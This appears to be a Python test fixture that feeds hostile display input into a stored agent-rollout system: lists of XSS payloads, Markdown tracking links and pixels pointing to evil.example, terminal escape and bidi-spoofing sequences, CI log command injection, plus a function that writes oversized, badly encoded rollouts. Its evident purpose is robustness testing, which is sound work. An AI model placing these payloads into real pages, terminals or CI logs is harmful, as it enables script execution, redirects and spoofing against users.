"""Text that attacks whatever displays it: HTML, Markdown, terminals, rich markup and CI logs. Also endless text."""

from agents.trajectory import Observation, Step
from envs.base import Patch
from heats.store.store import RolloutStore

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<math><mtext></table><mglyph><style><img src onerror=alert(1)>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><input type=submit></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></details></main><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "` onclick=alert(1) `",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "{{ 7 * 7 }}{% raw %}{{ self.__init__.__globals__ }}",
    "${alert(1)}",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img\x0bsrc=x\x0conerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
]
MARKDOWN = [
    "@everyone please @octocat",
    "fixes #1, closes owner/repo#2, GH-3",
    "![x](http://evil.example/pixel.png)",
    "[x](http://evil.example)",
    "[x](javascript:alert(1))",
    "http://evil.example www.evil.example",
    "<http://evil.example>",
    "[x]: http://evil.example\n[x]",
    "<!-- hidden -->",
    "<details><summary>x</summary>",
    "```\nend of fence\n```",
    "``````\n~~~~\nx\n~~~~",
    "` `` ``` ````",
    "# heading\n\n- item\n\n1. item\n\n> quote\n\n---\n",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "\\`\\[x\\](http://evil.example)",
    "*bold* __bold__ ~~gone~~",
    "    indented code\n\tmore",
    "\r\n\r\n# heading after carriage returns",
]
TERMINAL = [
    "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b2J\x90q\x9c\x1bc\x1b[?1049h",
    "user\u202etxt.exe\u2066\u200b\ufeff\U000e0041",
    "[/bold][link=http://evil.example]x[/link][b +",
    "::error file=x::y\n##[group]z\n::stop-commands::t",
]


class HostileVoice:
    """Returns its input followed by the next few attacks, so that over a run every field meets every attack."""

    def __init__(self, room: int = 400) -> None:
        self.room = room
        self.at = 0

    def __call__(self, text: str) -> str:
        attacks = [*XSS, *MARKDOWN, *TERMINAL]
        said = text
        while len(said) < self.room:
            said += " " + attacks[self.at % len(attacks)]
            self.at += 1
        return said[:590]


def swell(files: RolloutStore) -> None:
    """Give a rollout 50 MB of output, a line of a million characters, and a patch of long lines in invalid encoding."""
    trajectory, outcome = files.trajectory(), files.outcome()
    assert trajectory is not None
    assert outcome is not None
    huge = Observation(tool_call_id="x", content="\x1b[31m" + "y" * 50_000_000 + "the end", exit_code=0)
    lines = "".join(f"line {number}\n" for number in range(100_000))
    wide = Step(id=98, source="agent", content="<script>alert(1)</script>" * 40_000)
    steps = (*trajectory.steps, wide, Step(id=99, source="agent", content=lines, observations=(huge,)))
    files.save_trajectory(trajectory.model_copy(update={"steps": steps}))
    patch = Patch(
        b"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -0,0 +1,3 @@\n+"
        + b"z" * 1_000_000
        + b"\n+\xff\xfe\x1b[2J<script>alert(1)</script>\n+"
        + b"w\n" * 200_000
    )
    files.finish(outcome.model_copy(update={"patch_sha256": patch.sha256, "patch_bytes": len(patch.data)}), patch)
